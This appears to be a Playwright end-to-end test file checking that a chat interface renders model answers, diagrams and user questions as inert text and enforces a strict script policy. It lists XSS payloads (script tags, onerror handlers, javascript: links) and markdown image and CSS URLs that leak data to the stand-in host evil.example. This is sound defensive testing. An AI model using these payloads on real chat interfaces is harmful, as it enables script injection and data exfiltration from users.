"""What a model writes is text: nothing in it runs, loads or reaches out, even streamed in single characters."""

import pytest
from playwright.sync_api import Page, Request, expect

from tests.e2e.deployments import Deployment
from tests.e2e.reading import body, expect_status, send

PAYLOADS = {
    "script element": "<script>window.pwned = 1</script>",
    "image error": '<img src="x" onerror="window.pwned = 1">',
    "svg load": '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
    "frame source": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "script link": '[click me](javascript:window.pwned=1) <a href="javascript:window.pwned=1">raw</a>',
    "data link": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "style element": "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/a.css>",
    "form": '<form action="https://evil.example/"><input name=a><button>send</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "inline image": "![secret](https://evil.example/leak?q=secret)",
    "reference image": "![secret][leak]\n\n[leak]: https://evil.example/leak",
    "html image": '<img src="https://evil.example/leak.png"><video src="https://evil.example/v.mp4"></video>',
    "broken maths": "$$\\href{javascript:window.pwned=1}{x} \\unknown{<img src=x onerror=window.pwned=1>}$$",
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=window.pwned=1>"]\n```',
    "half open tag": '<img src=x onerror="window.pwned = 1" ',
    "event attribute": '<p onmouseover="window.pwned = 1" style="position:fixed;inset:0">hover</p>',
}


DIAGRAMS = (
    'graph TD\n  A["<img src=x onerror=top.pwned=1>"] --> B\n  click A href "javascript:top.pwned=1"',
    'graph TD\n  A["<script>top.pwned=1</script>"] --> B\n  click A call pwn()',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<b onclick=top.pwned=1>x</b>"]',
    'graph TD\n  A@{ img: "https://evil.example/leak.png", w: 60, h: 60 }',
    "graph TD\n  A --> B\n  style A fill:url(https://evil.example/leak)",
    '%%{init: {"themeCSS": "@import url(https://evil.example/a.css); * { position: fixed }"}}%%\ngraph TD\n  A --> B',
    '---\nconfig:\n  fontFamily: \'"; } @import "https://evil.example/b.css"; a {\'\n---\ngraph TD\n  A --> B',
    'sequenceDiagram\n  A->>B: <iframe srcdoc="<script>top.pwned=1</script>">\n  link A: x @ javascript:top.pwned=1',
    "gantt\n  dateFormat YYYY-MM-DD\n  tickInterval 1millisecond\n  section A\n  a :a1, 1000-01-01, 3000-01-01",
)
FRAMES = """window.frames_seen = [];
new MutationObserver(() => document.querySelectorAll("iframe").forEach((frame) =>
  window.frames_seen.push(frame.getAttribute("sandbox")))).observe(document, {childList: true, subtree: true});"""


@pytest.mark.parametrize("kind", PAYLOADS)
def test_nothing_in_an_answer_runs_or_loads(ada: Page, server: Deployment, kind: str) -> None:
    foreign: list[str] = []
    dialogs: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((server.url, "data:", "blob:", server.url.replace("http", "ws"))):
            foreign.append(request.url)

    ada.on("request", note)
    ada.on("dialog", lambda dialog: dialogs.append(dialog.message))
    send(ada, f"repeat exactly: {PAYLOADS[kind]}")
    expect_status(ada, "completed")
    for link in body(ada).get_by_role("link").all():
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
    expect(body(ada)).to_be_attached()
    assert ada.evaluate("window.pwned") is None
    assert (foreign, dialogs) == ([], [])


def test_nothing_in_a_diagram_runs_loads_or_leads_anywhere(ada: Page, server: Deployment) -> None:
    foreign: list[str] = []
    ada.on("request", lambda request: foreign.append(request.url) if "evil.example" in request.url else None)
    ada.evaluate(FRAMES)
    send(ada, "repeat exactly: " + "\n\n".join(f"```mermaid\n{one}\n```" for one in (*DIAGRAMS, "graph TD\n  Last")))
    expect_status(ada, "completed")
    drawn = body(ada).get_by_test_id("diagram")
    expect(drawn.last).to_have_attribute("data-shows", "drawing", timeout=60_000)
    expect(drawn).to_have_count(len(DIAGRAMS) + 1)
    assert body(ada).locator("svg [onclick], svg a, .drawing a, .drawing svg").count() == 0
    assert ada.evaluate("window.pwned") is None
    assert foreign == []
    assert set(ada.evaluate("window.frames_seen")) == {"allow-scripts"}
    expect(ada.locator("iframe")).to_have_count(0)


def test_a_question_is_shown_as_it_was_typed_and_never_as_markup(ada: Page) -> None:
    send(ada, "count 1 <img src=x onerror='window.pwned=1'> **not bold**")
    expect_status(ada, "completed")
    question = ada.locator('[data-role="user"]').last
    expect(question).to_contain_text("<img src=x onerror='window.pwned=1'> **not bold**")
    assert ada.evaluate("window.pwned") is None


def test_prices_stay_prices_and_maths_is_maths(ada: Page) -> None:
    send(ada, r"repeat exactly: It costs $5 and $10. Then \(a^2\) and $$b^2$$ and `\(c\)`.")
    expect_status(ada, "completed")
    expect(body(ada)).to_contain_text("It costs $5 and $10.")
    expect(body(ada).locator(".katex")).to_have_count(2)
    expect(body(ada).locator("code")).to_have_text(r"\(c\)")


def test_every_page_forbids_scripts_that_the_build_does_not_know(ada: Page) -> None:
    response = ada.goto("/")
    assert response is not None
    policy = response.headers["content-security-policy"]
    scripts = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "unsafe-eval" not in scripts
    assert "unsafe-inline" not in scripts
